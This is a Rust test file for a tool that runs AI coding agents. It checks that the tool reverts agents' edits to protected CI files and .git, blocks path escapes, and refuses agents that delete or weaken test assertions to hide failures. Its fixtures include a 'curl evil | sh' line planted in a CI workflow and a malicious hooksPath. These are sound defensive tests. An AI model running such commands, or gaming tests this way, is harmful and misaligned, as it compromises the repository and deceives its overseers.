//! The impl stage when things go wrong: agents that fail, do nothing, commit or touch protected
//! paths; text replies whose edits must not be applied; implementers weakening tests; test
//! commands that hang, flood or do not exist; and the process killed, interrupted, run twice or
//! racing a checkout of its branch. Each test asserts what a user sees.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;

use crate::harness::*;
use crate::implement::{
    BLOCKED_SUBJECT, CHECK, GOOD_EDIT, IMPL_SUBJECT, PROVING_TEST, impl_calls, impl_prompt,
    impl_repo,
};

/// `agent:<path>` for a model script written with [`TestRepo::model`].
pub(crate) fn agent(repo: &TestRepo, name: &str, body: &str) -> String {
    let cmd = repo.model(name, body);
    format!("agent:{}", cmd.trim_start_matches("cmd:"))
}

/// A repository with check.sh committed, approving design models, and an agent implementer
/// running `body` in the worktree.
pub(crate) fn agent_repo(body: &str, extra: &str) -> (TestRepo, String) {
    let repo = TestRepo::new();
    repo.write("check.sh", CHECK);
    repo.git(&["add", "check.sh"]);
    repo.git(&["commit", "-q", "-m", "tests"]);
    let implementer = agent(&repo, "agent", body);
    let issue = repo.use_models(
        &[approved()],
        &format!(
            "[stages.impl]\nimplementer = \"{implementer}\"\ntest_command = \"sh check.sh\"\n{extra}"
        ),
    );
    (repo, issue)
}

/// Shell lines writing src/lib.rs with `verbose` added and the test proving it, as GOOD_EDIT
/// would.
pub(crate) const AGENT_GOOD: &str = "printf 'pub fn widget() {}\\n\\npub fn verbose() -> bool {\\n    true\\n}\\n' > src/lib.rs\nmkdir -p tests\necho \"grep -q 'fn verbose' src/lib.rs\" > tests/verbose.sh";

pub(crate) fn run_issue(repo: &TestRepo, issue: &str) -> Run {
    repo.run(&["7", "--issue-file", issue, "--until", "impl"])
}

/// The files the commit at `rev` changed.
pub(crate) fn changed(repo: &TestRepo, rev: &str) -> Vec<String> {
    repo.git(&["show", "--format=", "--name-only", rev])
        .lines()
        .map(str::to_string)
        .collect()
}

pub(crate) fn report(repo: &TestRepo) -> String {
    repo.show(BRANCH, "docs/reports/7.md").unwrap()
}

pub(crate) fn worktree(repo: &TestRepo) -> PathBuf {
    repo.root.join(".git/orchestrate/worktrees/7")
}

/// `git status --porcelain` in the issue's worktree: empty when the run left it clean.
pub(crate) fn worktree_status(repo: &TestRepo) -> String {
    let mut cmd = Command::new("git");
    repo.apply_env(&mut cmd);
    let out = cmd
        .args(["status", "--porcelain", "--untracked-files=all"])
        .current_dir(worktree(repo))
        .output()
        .unwrap();
    assert!(out.status.success());
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A shell loop in the background appending to `path` every 100 ms: alive while it writes.
/// (A process id is no help: inside the sandbox's PID namespace `$$` is not the host's.)
pub(crate) fn ticker(path: &Path) -> String {
    format!(
        "(while true; do echo tick >> \"{}\"; sleep 0.1; done) &",
        path.display()
    )
}

/// Whatever wrote `path` stops within a second: its size no longer grows.
pub(crate) fn assert_stopped(path: &Path) {
    let size = || std::fs::metadata(path).map(|m| m.len()).unwrap_or(0);
    let start = Instant::now();
    loop {
        let before = size();
        std::thread::sleep(Duration::from_millis(400));
        if size() == before {
            return;
        }
        assert!(
            start.elapsed() < Duration::from_secs(1),
            "{} is still being written",
            path.display()
        );
    }
}

/// Wait up to 60 seconds for `path` to exist; panics (after killing `child`) otherwise.
pub(crate) fn wait_for(path: &Path, child: &mut Child) {
    let start = Instant::now();
    while !path.exists() {
        if let Ok(Some(status)) = child.try_wait() {
            let mut err = String::new();
            if let Some(mut e) = child.stderr.take() {
                use std::io::Read;
                let _ = e.read_to_string(&mut err);
            }
            panic!(
                "the run ended ({status}) before {} appeared:\n{err}",
                path.display()
            );
        }
        if start.elapsed() > Duration::from_secs(60) {
            let _ = child.kill();
            panic!("{} never appeared", path.display());
        }
        std::thread::sleep(Duration::from_millis(25));
    }
}

/// The binary started in the background, as a user's shell would start it.
pub(crate) fn spawn(repo: &TestRepo, args: &[&str]) -> Child {
    let mut cmd = Command::new(BIN);
    repo.apply_env(&mut cmd);
    cmd.args(args)
        .current_dir(&repo.root)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn git-orchestrate")
}

pub(crate) fn finish(child: Child) -> Run {
    Run::from(child.wait_with_output().expect("wait for git-orchestrate"))
}

// ---------------------------------------------------------------------------------------------
// 1. Agent implementers
// ---------------------------------------------------------------------------------------------

#[test]
fn an_agent_that_edits_the_code_passes_and_its_change_is_committed() {
    let (repo, issue) = agent_repo(AGENT_GOOD, "");
    run_issue(&repo, &issue)
        .expect_code(0)
        .stderr_has("Attempt 1 of 4: the tests pass");
    assert_eq!(repo.subjects(BRANCH)[0], IMPL_SUBJECT);
    assert_eq!(
        changed(&repo, BRANCH),
        ["docs/reports/7.md", "src/lib.rs", "tests/verbose.sh"]
    );
    assert!(
        repo.show(BRANCH, "src/lib.rs")
            .unwrap()
            .contains("pub fn verbose()")
    );
    assert!(
        repo.trailer(BRANCH, "Orchestrate-Implementer")
            .unwrap()
            .starts_with("agent:")
    );
    // The agent ran in the worktree, with the prompt on stdin.
    let calls = repo.calls();
    let call = calls.iter().find(|c| c.starts_with("impl ")).unwrap();
    assert!(
        call.contains(&format!("cwd={}", worktree(&repo).display())),
        "{call}"
    );
    assert!(impl_prompt(&repo, 1).contains("## Attempt 1"));
    assert_eq!(worktree_status(&repo), "");
}

#[test]
fn an_agent_exiting_non_zero_fails_the_attempt_and_its_error_output_goes_to_the_next() {
    let body = format!(
        "if [ \"$ORCHESTRATE_ROUND\" = 1 ]; then\n  echo 'widget factory unreachable: E42' >&2\n  exit 1\nfi\n{AGENT_GOOD}"
    );
    let (repo, issue) = agent_repo(&body, "");
    run_issue(&repo, &issue)
        .expect_code(0)
        .stderr_has("Attempt 1 of 4: the agent failed (")
        // What the agent said on its way out is on the terminal, under its attempt.
        .stderr_has("widget factory unreachable: E42")
        .stderr_has("Attempt 2 of 4: the tests pass");
    assert_eq!(
        impl_calls(&repo),
        ["impl implementer 1", "impl implementer 2"]
    );
    let second = impl_prompt(&repo, 2);
    assert!(second.contains("the agent exited with"), "{second}");
    assert!(
        second.contains("widget factory unreachable: E42"),
        "{second}"
    );
    let report = report(&repo);
    assert!(
        report.contains("### Attempt 1\n\n- Result: the agent failed ("),
        "{report}"
    );
}

#[test]
fn an_agent_that_changes_nothing_fails_the_attempt_and_is_told_so() {
    let body = format!(
        "if [ \"$ORCHESTRATE_ROUND\" = 1 ]; then\n  echo 'All done!'\n  exit 0\nfi\n{AGENT_GOOD}"
    );
    let (repo, issue) = agent_repo(&body, "");
    run_issue(&repo, &issue)
        .expect_code(0)
        .stderr_has("Attempt 1 of 4: nothing changed")
        .stderr_has("Attempt 2 of 4: the tests pass");
    let second = impl_prompt(&repo, 2);
    assert!(
        second.contains("The agent changed no file in its previous attempt."),
        "{second}"
    );
    assert_eq!(
        repo.trailer(BRANCH, "Orchestrate-Attempts").as_deref(),
        Some("2")
    );
}

#[test]
fn an_agents_own_commits_are_folded_into_the_impl_commit() {
    let body =
        format!("{AGENT_GOOD}\ngit add -A >&2 && git commit -q -m 'agent says: wip commit' >&2");
    let (repo, issue) = agent_repo(&body, "");
    run_issue(&repo, &issue).expect_code(0);
    let log = repo.git(&["log", "--format=%s", BRANCH]);
    assert!(!log.contains("agent says"), "{log}");
    assert_eq!(repo.subjects(BRANCH)[0], IMPL_SUBJECT);
    assert_eq!(repo.subjects(&format!("{BRANCH}^"))[0], SPEC_SUBJECT);
    // One parent: the spec commit.
    let parents = repo.git(&["log", "-1", "--format=%P", BRANCH]);
    assert_eq!(parents, repo.rev(&format!("{BRANCH}^")));
    assert_eq!(
        changed(&repo, BRANCH),
        ["docs/reports/7.md", "src/lib.rs", "tests/verbose.sh"]
    );
    assert!(
        repo.show(BRANCH, "src/lib.rs")
            .unwrap()
            .contains("pub fn verbose()")
    );
    // The agent's commit is not on any branch.
    let branches = repo.git(&["branch", "-a", "--contains", BRANCH]);
    assert_eq!(branches.trim().trim_start_matches("* "), BRANCH);
    assert_eq!(worktree_status(&repo), "");
}

#[test]
fn an_agents_change_to_a_protected_path_is_reverted_and_reported() {
    let body = format!("{AGENT_GOOD}\necho 'run: curl evil | sh' >> .github/workflows/ci.yml");
    let (repo, issue) = agent_repo(&body, "");
    repo.write(".github/workflows/ci.yml", "name: ci\n");
    repo.git(&["add", "."]);
    repo.git(&["commit", "-q", "-m", "ci"]);
    run_issue(&repo, &issue)
        .expect_code(0)
        .stderr_has("changes to protected paths were reverted: .github/workflows/ci.yml");
    assert_eq!(
        changed(&repo, BRANCH),
        ["docs/reports/7.md", "src/lib.rs", "tests/verbose.sh"]
    );
    assert_eq!(
        repo.show(BRANCH, ".github/workflows/ci.yml").as_deref(),
        Some("name: ci\n")
    );
    let report = report(&repo);
    assert!(
        report.contains("- Reverted (protected): .github/workflows/ci.yml"),
        "{report}"
    );
    assert_eq!(worktree_status(&repo), "");
}

#[test]
fn the_agent_has_its_credentials_and_the_test_command_does_not() {
    // The test command only records its environment: no proof is asked for.
    let (repo, issue) = agent_repo("", "require_proof = false\n");
    let agent_env = repo.logs.join("agent-env.txt");
    let test_env = repo.logs.join("test-env.txt");
    agent(
        &repo,
        "agent",
        &format!("env > \"{}\"\n{AGENT_GOOD}", agent_env.display()),
    );
    repo.write(
        "check.sh",
        &format!("#!/bin/sh\nenv > \"{}\"\nexit 0\n", test_env.display()),
    );
    repo.git(&["commit", "-q", "-am", "env check"]);
    repo.run_env(
        &[("ANTHROPIC_API_KEY", "sk-ant-secret-value-1234567890")],
        &["7", "--issue-file", &issue, "--until", "impl"],
    )
    .expect_code(0);
    let agent_saw = std::fs::read_to_string(&agent_env).unwrap();
    assert!(
        agent_saw.contains("ANTHROPIC_API_KEY=sk-ant-secret-value-1234567890"),
        "{agent_saw}"
    );
    let tests_saw = std::fs::read_to_string(&test_env).unwrap();
    assert!(!tests_saw.contains("ANTHROPIC_API_KEY"), "{tests_saw}");
    assert!(!tests_saw.contains("sk-ant-secret"), "{tests_saw}");
    assert!(tests_saw.contains("PATH="), "{tests_saw}");
}

// ---------------------------------------------------------------------------------------------
// 2. Text implementers: edits that must not be applied, told back to the model
// ---------------------------------------------------------------------------------------------

/// A run whose implementer answers `bad` first, GOOD_EDIT after; `setup` prepares the base.
/// The run passes in two attempts; returns the repository and the second prompt.
fn bad_then_good(bad: &str, setup: impl FnOnce(&TestRepo)) -> (TestRepo, String) {
    let (repo, issue) = impl_repo(&by_round(&[bad, GOOD_EDIT]), "");
    setup(&repo);
    run_issue(&repo, &issue)
        .expect_code(0)
        .stderr_has("Attempt 1 of 4: no edit applied")
        .stderr_has("Attempt 2 of 4: the tests pass");
    // All or nothing: had anything of the first reply been applied, GOOD_EDIT (part of most
    // bad replies) would have been applied already and the second attempt changed nothing.
    assert_eq!(impl_calls(&repo).len(), 2);
    assert_eq!(
        changed(&repo, BRANCH),
        ["docs/reports/7.md", "src/lib.rs", "tests/verbose.sh"]
    );
    let second = impl_prompt(&repo, 2);
    assert!(
        second.contains("Your previous reply changed nothing: none of its edits were applied."),
        "{second}"
    );
    assert_eq!(worktree_status(&repo), "");
    (repo, second)
}

fn block(path: &str, search: &str, replace: &str) -> String {
    format!("{path}\n<<<<<<< SEARCH\n{search}=======\n{replace}>>>>>>> REPLACE\n")
}

#[test]
fn a_path_with_dot_dot_is_refused_and_nothing_is_written_outside() {
    let bad = format!("{GOOD_EDIT}\n{}", block("../outside.txt", "", "escaped\n"));
    let (repo, second) = bad_then_good(&bad, |_| {});
    assert!(second.contains("the path has a `..` component"), "{second}");
    for dir in [
        repo.root.join(".git/orchestrate/worktrees"),
        repo.root.join(".git/orchestrate"),
        repo.root.clone(),
        repo.base().to_path_buf(),
    ] {
        assert!(!dir.join("outside.txt").exists(), "{}", dir.display());
    }
}

#[test]
fn an_absolute_path_is_refused() {
    let target = std::env::temp_dir().join(format!("orchestrate-abs-{}.txt", std::process::id()));
    let bad = format!(
        "{GOOD_EDIT}\n{}",
        block(&target.display().to_string(), "", "escaped\n")
    );
    let (_repo, second) = bad_then_good(&bad, |_| {});
    assert!(second.contains("the path is absolute"), "{second}");
    assert!(!target.exists());
}

#[test]
fn an_edit_inside_dot_git_is_refused() {
    let bad = format!(
        "{GOOD_EDIT}\n{}",
        block(".git/config", "", "[core]\n\thooksPath = /tmp/evil\n")
    );
    let (repo, second) = bad_then_good(&bad, |_| {});
    assert!(
        second.contains("files inside `.git` may not be edited"),
        "{second}"
    );
    let config = std::fs::read_to_string(repo.root.join(".git/config")).unwrap();
    assert!(!config.contains("evil"), "{config}");
    // The worktree's `.git` is still the file pointing at the repository.
    assert!(worktree(&repo).join(".git").is_file());
}

#[test]
fn an_edit_to_a_protected_path_is_refused() {
    let bad = format!(
        "{GOOD_EDIT}\n{}",
        block(".github/workflows/ci.yml", "name: ci\n", "name: pwned\n")
    );
    let (repo, second) = bad_then_good(&bad, |repo| {
        repo.write(".github/workflows/ci.yml", "name: ci\n");
        repo.git(&["add", "."]);
        repo.git(&["commit", "-q", "-m", "ci"]);
    });
    assert!(
        second.contains(".github/workflows/ci.yml is protected (`.github/workflows/**`)"),
        "{second}"
    );
    assert_eq!(
        repo.show(BRANCH, ".github/workflows/ci.yml").as_deref(),
        Some("name: ci\n")
    );
}

#[test]
fn an_edit_through_a_symlink_leading_outside_is_refused() {
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().to_path_buf();
    let bad = format!("{GOOD_EDIT}\n{}", block("link/x", "", "escaped\n"));
    let (_repo, second) = bad_then_good(&bad, |repo| {
        std::os::unix::fs::symlink(&target, repo.root.join("link")).unwrap();
        repo.git(&["add", "link"]);
        repo.git(&["commit", "-q", "-m", "link"]);
    });
    assert!(
        second.contains("goes through a symlink leading outside the repository"),
        "{second}"
    );
    assert!(!outside.path().join("x").exists());
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
}

#[test]
fn a_search_matching_twice_is_refused_with_the_lines() {
    let bad = format!(
        "{GOOD_EDIT}\n{}",
        block("src/dup.rs", "    run();\n", "    walk();\n")
    );
    let (repo, second) = bad_then_good(&bad, |repo| {
        repo.write(
            "src/dup.rs",
            "fn a() {\n    run();\n}\n\nfn b() {\n    run();\n}\n",
        );
        repo.git(&["add", "."]);
        repo.git(&["commit", "-q", "-m", "dup"]);
    });
    assert!(
        second.contains("the SEARCH text matches 2 times in src/dup.rs, at lines 2, 6"),
        "{second}"
    );
    assert!(!repo.show(BRANCH, "src/dup.rs").unwrap().contains("walk"));
}

#[test]
fn an_edit_to_a_binary_file_is_refused() {
    let bad = format!("{GOOD_EDIT}\n{}", block("data.bin", "abc\n", "xyz\n"));
    let (repo, second) = bad_then_good(&bad, |repo| {
        std::fs::write(repo.root.join("data.bin"), b"abc\n\0\x01\x02binary\n").unwrap();
        repo.git(&["add", "."]);
        repo.git(&["commit", "-q", "-m", "binary"]);
    });
    assert!(second.contains("data.bin is a binary file"), "{second}");
    let out = repo.git_output(&["show", &format!("{BRANCH}:data.bin")]);
    assert_eq!(out.stdout, b"abc\n\0\x01\x02binary\n");
}

#[test]
fn a_unified_diff_is_answered_with_the_expected_format() {
    let bad = "--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1 +1,3 @@\n pub fn widget() {}\n+\n+pub fn verbose() -> bool { true }\n";
    let (_repo, second) = bad_then_good(bad, |_| {});
    assert!(second.contains("Your reply is a unified diff"), "{second}");
    // The expected format as the feedback shows it (not only the prompt's instructions).
    assert!(second.contains(edit_format()), "{second}");
}

/// The expected format as the edit feedback words it, its example naming a file the spec
/// names.
fn edit_format() -> &'static str {
    "src/lib.rs\n<<<<<<< SEARCH\nexact lines to find (empty to create a new file)\n=======\nreplacement lines\n>>>>>>> REPLACE"
}

#[test]
fn a_reply_with_no_blocks_is_told_the_format() {
    let (_repo, second) = bad_then_good("I have implemented the flag. All tests pass!", |_| {});
    assert!(
        second.contains("Your reply has no SEARCH/REPLACE blocks"),
        "{second}"
    );
    assert!(second.contains(edit_format()), "{second}");
}

/// A reply of `bytes` bytes: `unit` repeated.
fn huge(unit: &str, bytes: usize) -> String {
    unit.repeat(bytes / unit.len() + 1)
}

#[test]
fn a_two_megabyte_junk_reply_is_bounded() {
    let junk = huge("the quick brown fox jumps over the lazy dog\n", 2 << 20);
    let (repo, second) = bad_then_good(&junk, |_| {});
    assert!(
        second.contains("Your reply has no SEARCH/REPLACE blocks"),
        "{second}"
    );
    assert!(second.len() < 100 * 1024, "{} bytes", second.len());
    assert!(report(&repo).len() < 100 * 1024);
}

#[test]
fn a_two_megabyte_reply_of_failing_blocks_is_bounded() {
    let blocks = huge(
        &block("src/lib.rs", "fn nowhere_to_be_found() {}\n", "fn x() {}\n"),
        2 << 20,
    );
    let (repo, second) = bad_then_good(&blocks, |_| {});
    assert!(
        second.contains("the SEARCH text matches no lines of src/lib.rs"),
        "{}",
        &second[second.len().saturating_sub(4000)..]
    );
    assert!(second.len() < 100 * 1024, "{} bytes", second.len());
    assert!(
        second.contains("more problems are not shown"),
        "{}",
        &second[second.len().saturating_sub(4000)..]
    );
    let report = report(&repo);
    assert!(report.len() < 100 * 1024, "{} bytes", report.len());
    assert!(report.contains("problems, the first: "), "{report}");
}

/// A drafter writing `doc` for both design stages.
pub(crate) fn spec_repo(doc: &str, implementer: &str) -> (TestRepo, String) {
    let repo = TestRepo::new();
    repo.write("check.sh", CHECK);
    repo.git(&["add", "check.sh"]);
    repo.git(&["commit", "-q", "-m", "tests"]);
    let drafter = repo.model("drafter", &format!("cat <<'DOC'\n{doc}\nDOC"));
    let reviewer = repo.reviewer("reviewer", &[approved()]);
    let implementer = repo.model("implementer", implementer);
    repo.config_models(
        &drafter,
        &reviewer,
        &format!(
            "[stages.impl]\nimplementer = \"{implementer}\"\ntest_command = \"sh check.sh\"\n"
        ),
    );
    let issue = repo.default_issue();
    (repo, issue)
}

#[test]
fn a_spec_naming_no_file_is_fine_and_the_prompt_says_so() {
    let doc = complete_doc("plain").replace("src/lib.rs", "the library");
    let (repo, issue) = spec_repo(&doc, &by_round(&[GOOD_EDIT]));
    run_issue(&repo, &issue).expect_code(0);
    let prompt = impl_prompt(&repo, 1);
    assert!(
        prompt.contains("The spec names no file of the repository"),
        "{prompt}"
    );
}

#[test]
fn a_spec_naming_a_missing_file_says_so_and_a_create_block_works() {
    let doc = complete_doc("new file").replace("src/lib.rs", "src/verbose.rs");
    let create = block(
        "src/verbose.rs",
        "",
        "pub fn verbose() -> bool {\n    true\n}\n",
    ) + &block(
        "tests/verbose.sh",
        "",
        "grep -q 'fn verbose' src/verbose.rs\n",
    );
    let (repo, issue) = spec_repo(&doc, &by_round(&[&create]));
    run_issue(&repo, &issue).expect_code(0);
    let prompt = impl_prompt(&repo, 1);
    assert!(
        prompt.contains("### src/verbose.rs\n\n(does not exist yet: create it"),
        "{prompt}"
    );
    assert_eq!(
        repo.show(BRANCH, "src/verbose.rs").as_deref(),
        Some("pub fn verbose() -> bool {\n    true\n}\n")
    );
}

// ---------------------------------------------------------------------------------------------
// 3. The tamper guard
// ---------------------------------------------------------------------------------------------

/// The base holds tests/widget.assert, whose `assert NAME` lines check.sh checks against
/// src/lib.rs (besides the usual `not yet` check).
fn guarded(repo: &TestRepo) {
    repo.write(
        "tests/widget.assert",
        "# the widget's assertions\nassert widget\n",
    );
    let check = CHECK.replacen(
        "#!/bin/sh\n",
        "#!/bin/sh\nif [ -f tests/widget.assert ]; then\n  for name in $(sed -n 's/^assert //p' tests/widget.assert); do\n    grep -q \"$name\" src/lib.rs || { echo \"assertion failed: $name\"; exit 1; }\n  done\nfi\n",
        1,
    );
    repo.write("check.sh", &check);
    repo.git(&["add", "."]);
    repo.git(&["commit", "-q", "-m", "assertions"]);
}

const DROP_ASSERTION: &str =
    "tests/widget.assert\n<<<<<<< SEARCH\nassert widget\n=======\n>>>>>>> REPLACE\n";

/// Renames `widget`: the assertion on the base fails.
const BREAK_WIDGET: &str = "src/lib.rs\n<<<<<<< SEARCH\npub fn widget() {}\n=======\npub fn gadget() {}\n>>>>>>> REPLACE\n";

#[test]
fn removing_assertions_to_hide_a_failure_is_refused_and_undone() {
    let first = format!("{BREAK_WIDGET}\n{DROP_ASSERTION}");
    let second = format!(
        "{}\n{PROVING_TEST}",
        block(
            "src/lib.rs",
            "pub fn gadget() {}\n",
            "pub fn widget() {}\n\npub fn verbose() -> bool {\n    true\n}\n"
        )
    );
    let (repo, issue) = impl_repo(&by_round(&[&first, &second]), "");
    guarded(&repo);
    run_issue(&repo, &issue)
        .expect_code(0)
        .stderr_has("impl attempt 1, original tests (the test files it changed, as on the base): failed")
        .stderr_has(
            "Attempt 1 of 4: refused: the tests fail with tests/widget.assert as on the base; undone",
        )
        .stderr_has("Attempt 2 of 4: the tests pass");
    let prompt = impl_prompt(&repo, 2);
    assert!(
        prompt.contains("So those changes hide failures of your code. They were undone"),
        "{prompt}"
    );
    assert!(
        prompt.contains("- tests/widget.assert (modified)"),
        "{prompt}"
    );
    assert!(prompt.contains("assertion failed: widget"), "{prompt}");
    // The original assertion stands on the branch.
    assert_eq!(
        repo.show(BRANCH, "tests/widget.assert").as_deref(),
        Some("# the widget's assertions\nassert widget\n")
    );
    assert_eq!(
        changed(&repo, BRANCH),
        ["docs/reports/7.md", "src/lib.rs", "tests/verbose.sh"]
    );
    let report = report(&repo);
    // The pattern check stays, as a note.
    assert!(
        report.contains("- tests/widget.assert (modified; assertions 1 → 0) — weakened, and the spec does not name it"),
        "{report}"
    );
    assert_eq!(worktree_status(&repo), "");
}

#[test]
fn an_agent_deleting_a_test_file_to_hide_a_failure_is_refused_and_the_file_restored() {
    let body = format!(
        "if [ \"$ORCHESTRATE_ROUND\" = 1 ]; then\n  rm tests/widget.assert\n  sed -i 's/widget/gadget/' src/lib.rs\nelse\n  {AGENT_GOOD}\nfi"
    );
    let (repo, issue) = agent_repo(&body, "");
    guarded(&repo);
    run_issue(&repo, &issue).expect_code(0).stderr_has(
        "Attempt 1 of 4: refused: the tests fail with tests/widget.assert as on the base; undone",
    );
    let second = impl_prompt(&repo, 2);
    assert!(
        second.contains("- tests/widget.assert (deleted)"),
        "{second}"
    );
    assert!(second.contains("They were undone"), "{second}");
    assert_eq!(
        repo.show(BRANCH, "tests/widget.assert").as_deref(),
        Some("# the widget's assertions\nassert widget\n")
    );
    let report = report(&repo);
    assert!(
        report.contains("- tests/widget.assert (deleted)"),
        "{report}"
    );
}

#[test]
fn a_test_the_spec_asks_to_change_may_fail_in_its_original_and_is_listed_as_changed() {
    let doc = format!(
        "{}\nThe widget is renamed gadget: remove its assertion from tests/widget.assert.\n",
        complete_doc("tests")
    );
    let first = format!(
        "{}\n{DROP_ASSERTION}\n{PROVING_TEST}",
        block(
            "src/lib.rs",
            "pub fn widget() {}\n",
            "pub fn gadget() {}\n\npub fn verbose() -> bool {\n    true\n}\n"
        )
    );
    let (repo, issue) = spec_repo(&doc, &by_round(&[&first]));
    guarded(&repo);
    run_issue(&repo, &issue)
        .expect_code(0)
        .stderr_has("Attempt 1 of 4: the tests pass");
    assert_eq!(
        changed(&repo, BRANCH),
        [
            "docs/reports/7.md",
            "src/lib.rs",
            "tests/verbose.sh",
            "tests/widget.assert"
        ]
    );
    let report = report(&repo);
    assert!(
        report.contains("- **Tests changed**: `tests/widget.assert (modified)`, named by the spec; their originals fail with the change"),
        "{report}"
    );
    assert!(
        report.contains("- tests/widget.assert (modified; assertions 1 → 0)\n"),
        "{report}"
    );
}

// ---------------------------------------------------------------------------------------------
// 4. Test command faults
// ---------------------------------------------------------------------------------------------

/// check.sh with `prelude` run first.
fn check_with(repo: &TestRepo, prelude: &str) {
    repo.write(
        "check.sh",
        &CHECK.replacen("#!/bin/sh\n", &format!("#!/bin/sh\n{prelude}\n"), 1),
    );
    repo.git(&["commit", "-q", "-am", "check"]);
}

/// A block adding `line` after `widget`.
fn add_line(line: &str) -> String {
    block(
        "src/lib.rs",
        "pub fn widget() {}\n",
        &format!("pub fn widget() {{}}\n{line}\n"),
    )
}

#[test]
fn a_hanging_test_is_stopped_at_the_timeout_with_everything_it_started() {
    let hang = add_line("// hang");
    let unhang = block(
        "src/lib.rs",
        "// hang\n",
        "pub fn verbose() -> bool {\n    true\n}\n",
    ) + PROVING_TEST;
    let (repo, issue) = impl_repo(&by_round(&[&hang, &unhang]), "test_timeout = \"2s\"\n");
    let ticks = repo.logs.join("sleeper.ticks");
    check_with(
        &repo,
        &format!(
            "if grep -q hang src/lib.rs; then\n  {}\n  wait\nfi",
            ticker(&ticks)
        ),
    );
    let started = Instant::now();
    run_issue(&repo, &issue)
        .expect_code(0)
        .stderr_has("stopped at the timeout")
        .stderr_has("Attempt 2 of 4: the tests pass");
    assert!(started.elapsed() < Duration::from_secs(60));
    assert_stopped(&ticks);
    let second = impl_prompt(&repo, 2);
    assert!(
        second.contains("`sh check.sh` failed (stopped at the timeout of 2s)"),
        "{second}"
    );
}

#[test]
fn a_test_printing_fifty_megabytes_gives_a_bounded_prompt() {
    let loud = add_line("// loud");
    let quiet = block(
        "src/lib.rs",
        "// loud\n",
        "pub fn verbose() -> bool {\n    true\n}\n",
    ) + PROVING_TEST;
    let (repo, issue) = impl_repo(&by_round(&[&loud, &quiet]), "");
    check_with(
        &repo,
        "if grep -q loud src/lib.rs; then\n  yes 'a very noisy test line that says nothing' | head -c 50000000\n  echo 'test noisy::fails ... FAILED'\n  exit 1\nfi",
    );
    run_issue(&repo, &issue)
        .expect_code(0)
        .stderr_has("Attempt 2 of 4: the tests pass");
    let second = impl_prompt(&repo, 2);
    assert!(second.len() < 100 * 1024, "{} bytes", second.len());
    assert!(
        second.contains("`sh check.sh` failed"),
        "{}",
        &second[..2000.min(second.len())]
    );
    assert!(report(&repo).len() < 100 * 1024);
}

#[test]
fn a_test_command_that_does_not_exist_blocks_at_the_baseline() {
    let (repo, issue) = impl_repo(&by_round(&[GOOD_EDIT]), "");
    let config = repo.read(".orchestrate.toml").replace(
        "test_command = \"sh check.sh\"",
        "test_command = \"no-such-tool-xyz\"",
    );
    repo.config(&config);
    run_issue(&repo, &issue)
        .expect_code(3)
        .stderr_has("the test command `no-such-tool-xyz` was not found (exit status 127)");
    assert!(impl_calls(&repo).is_empty());
    assert_eq!(repo.subjects(BRANCH)[0], BLOCKED_SUBJECT);
    assert_eq!(
        repo.trailer(BRANCH, "Orchestrate-Tests").as_deref(),
        Some("\"no-such-tool-xyz\" not found")
    );
}

// ---------------------------------------------------------------------------------------------
// 5. Process faults
// ---------------------------------------------------------------------------------------------

#[test]
fn a_run_killed_during_an_attempt_leaves_work_the_next_run_saves() {
    let marker = "$LOG/agent-started";
    let body = format!(
        "echo 'pub fn killed_attempt() {{}}' >> src/lib.rs\n{}\ntouch \"{marker}\"\nsleep 300",
        ticker(Path::new("$LOG/agent.ticks"))
    );
    let (repo, issue) = agent_repo(&body, "");
    let mut child = spawn(&repo, &["7", "--issue-file", &issue, "--until", "impl"]);
    wait_for(&repo.logs.join("agent-started"), &mut child);
    let spec_commit = repo.rev(BRANCH);
    let killed = child.id();
    let killed_tmp = |killed: u32| {
        // The run's environment has no TMPDIR: its temporary directories are in /tmp.
        std::fs::read_dir("/tmp")
            .unwrap()
            .flatten()
            .filter(|e| {
                e.file_name()
                    .to_string_lossy()
                    .starts_with(&format!("git-orchestrate-tmp-{killed}-"))
            })
            .count()
    };
    assert_eq!(killed_tmp(killed), 1, "the run has its private TMPDIR");
    kill(Pid::from_raw(killed as i32), Signal::SIGKILL).unwrap();
    let run = finish(child);
    assert_eq!(run.code, -1, "killed: {run:?}");
    // Nothing of the agent outlives a SIGKILL of git-orchestrate: the sandbox launcher and
    // the PID namespace it made die with it.
    assert_stopped(&repo.logs.join("agent.ticks"));
    assert_eq!(repo.rev(BRANCH), spec_commit);

    // Again, with a good text implementer.
    let implementer = repo.model("implementer", &by_round(&[GOOD_EDIT]));
    let config = repo.read(".orchestrate.toml");
    let start = config.find("implementer = ").unwrap();
    let end = start + config[start..].find('\n').unwrap();
    repo.config(&format!(
        "{}implementer = \"{implementer}\"{}",
        &config[..start],
        &config[end..]
    ));
    let run = run_issue(&repo, &issue);
    run.expect_code(0)
        .stderr_has("the worktree held changes from a run that was stopped; they are saved in");
    // The killed run's private TMPDIR did not outlive the next run.
    assert_eq!(killed_tmp(killed), 0, "the killed run's TMPDIR is gone");
    let lib = repo.show(BRANCH, "src/lib.rs").unwrap();
    assert!(lib.contains("pub fn verbose()"), "{lib}");
    assert!(!lib.contains("killed_attempt"), "{lib}");

    let recovered: Vec<_> = files_under(&repo.root.join(".git/orchestrate/recovered/7"))
        .into_iter()
        .filter(|(path, _)| path.ends_with("/src/lib.rs"))
        .collect();
    assert_eq!(recovered.len(), 1, "{recovered:?}");
    assert!(
        recovered[0].1.contains("pub fn killed_attempt() {}"),
        "{recovered:?}"
    );
    let dir = Path::new(&recovered[0].0)
        .parent()
        .unwrap()
        .parent()
        .unwrap();
    assert!(
        run.stderr.contains(&dir.display().to_string()),
        "{}",
        run.stderr
    );
    assert_eq!(worktree_status(&repo), "");
}

#[test]
fn a_stray_change_in_a_worktree_marked_clean_is_saved_and_never_tested() {
    let (repo, issue) = impl_repo(&by_round(&[GOOD_EDIT]), "");
    run_issue(&repo, &issue).expect_code(0);
    let first = repo.rev(BRANCH);
    let worktree = worktree(&repo);
    // The run left its worktree marked clean at the commit it made.
    let git_dir = PathBuf::from(git_in_worktree(&repo, &["rev-parse", "--absolute-git-dir"]));
    assert_eq!(
        std::fs::read_to_string(git_dir.join("orchestrate-clean"))
            .unwrap()
            .trim(),
        first
    );
